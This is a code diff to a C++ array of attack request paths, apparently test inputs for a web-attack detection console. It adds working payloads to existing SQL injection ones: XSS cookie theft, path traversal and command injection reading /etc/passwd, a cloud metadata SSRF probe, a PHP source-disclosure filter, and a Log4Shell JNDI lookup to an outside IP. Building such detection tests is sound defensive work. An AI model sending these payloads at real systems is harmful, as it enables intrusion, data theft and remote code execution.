@@ -35,7 +35,15 @@ constexpr const char* kSqli[] = {
     "/api/report/list?cardNo=0012345678%27%20UNION%20SELECT%20username,password%20FROM%20sys_user--",
     "/api/appointment/slots?doctorId=88;WAITFOR%20DELAY%20%270:0:5%27--",
     "/api/news/list?page=1%20AND%20SLEEP(5)", "/api/patient/profile?id=1%20AND%201=CONVERT(int,(SELECT%20@@version))",
-    "/login.jsp?user=admin%27--&pass=x"};
+    "/login.jsp?user=admin%27--&pass=x",
+    // The same scanner tries the other classes too (the console's web-attack page shows each).
+    "/api/news/search?kw=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+    "/portal/notice?title=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
+    "/api/report/download?file=../../../../etc/passwd",
+    "/api/tools/ping?host=127.0.0.1;cat%20/etc/passwd",
+    "/api/preview?url=http://169.254.169.254/latest/meta-data/",
+    "/index.php?page=php://filter/convert.base64-encode/resource=index.php",
+    "/.git/config", "/api/search?q=${jndi:ldap://45.95.147.201:1389/a}"};
 
 }  // namespace
 
